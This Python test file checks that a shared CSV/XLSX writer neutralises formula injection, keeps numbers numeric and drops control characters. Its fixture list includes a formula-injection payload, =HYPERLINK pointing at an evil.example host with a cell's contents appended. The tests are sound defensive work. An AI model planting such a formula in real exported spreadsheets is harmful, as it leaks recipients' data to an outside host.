"""The one CSV/XLSX writer: files parsed back, formulas neutralised, numbers kept as numbers."""

from __future__ import annotations

import csv
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from shared.spreadsheets import Table, write_csv, write_xlsx

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
    "+33 6 12",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",  # an import that trims spaces would see the formula
]
PLAIN_TEXT = ["Villeurbanne", "Saint-Étienne", "< 5", "2026-03-01", "a=b", "l'Isle"]


def _csv(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())
    text = content.decode("utf-8-sig")
    assert text.endswith("\r\n")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def _sheet(content: bytes, title: str = "feuille") -> list[list[openpyxl.cell.Cell]]:
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in workbook[title].iter_rows()]


@pytest.mark.parametrize("text", FORMULAS)
def test_csv_text_a_spreadsheet_would_take_for_a_formula_gets_an_apostrophe(text):
    rows = _csv(write_csv([[text, 1]], headers=["commune", "n"]))
    assert rows == [["commune", "n"], ["'" + text, "1"]]


@pytest.mark.parametrize("text", FORMULAS)
def test_xlsx_text_is_a_string_cell_never_a_formula(text):
    content = write_xlsx({"feuille": Table(["commune"], [[text]])})
    (header,), (cell,) = _sheet(content)
    assert header.value == "commune"
    assert cell.data_type == "s"
    assert cell.value == "'" + text.replace("\r", "\n")  # XML reads a CR back as a LF


def test_xlsx_text_starting_with_an_equals_sign_is_not_written_as_a_formula():
    content = write_xlsx({"feuille": Table(["x"], [["=1+1"]])})
    assert b"<f>" not in _unzipped_sheet(content)
    assert b"<is><t>'=1+1</t></is>" in _unzipped_sheet(content)


def _unzipped_sheet(content: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml")


@pytest.mark.parametrize("text", PLAIN_TEXT)
def test_ordinary_text_is_written_as_typed(text):
    assert _csv(write_csv([[text]], headers=["t"]))[1] == [text]
    (_header,), (cell,) = _sheet(write_xlsx({"feuille": Table(["t"], [[text]])}))
    assert (cell.data_type, cell.value) == ("s", text)


def test_numbers_stay_numbers_and_none_is_an_empty_cell():
    row = [3, -2, 1.5, -0.5, Decimal("2.25"), None]
    assert _csv(write_csv([row], headers=list("abcdef")))[1] == [
        "3",
        "-2",
        "1.5",
        "-0.5",
        "2.25",
        "",
    ]
    _header, cells = _sheet(write_xlsx({"feuille": Table(list("abcdef"), [row])}))
    assert [c.data_type for c in cells[:5]] == ["n"] * 5
    assert [c.value for c in cells] == [3, -2, 1.5, -0.5, 2.25, None]


def test_headers_are_neutralised_too():
    assert _csv(write_csv([], headers=["=cmd"])) == [["'=cmd"]]
    ((cell,),) = _sheet(write_xlsx({"feuille": Table(["=cmd"], [])}))
    assert (cell.data_type, cell.value) == ("s", "'=cmd")


def test_control_characters_are_dropped_and_cannot_hide_a_formula():
    text = "\x01\x1f=1+1"
    assert _csv(write_csv([[text]], headers=["t"]))[1] == ["'=1+1"]
    (_header,), (cell,) = _sheet(write_xlsx({"feuille": Table(["t"], [[text]])}))
    assert (cell.data_type, cell.value) == ("s", "'=1+1")


def test_separators_quotes_and_line_breaks_stay_inside_their_cell():
    text = 'a;b "c"\nd'
    assert _csv(write_csv([[text, "=x"]], headers=["t", "u"]))[1] == [text, "'=x"]


def test_a_workbook_has_one_sheet_per_table_in_order():
    content = write_xlsx(
        {"par mois": Table(["mois"], [["2026-03"]]), "par commune": Table(["n"], [[1]])}
    )
    workbook = openpyxl.load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["par mois", "par commune"]
    assert list(workbook["par commune"].values) == [("n",), (1,)]
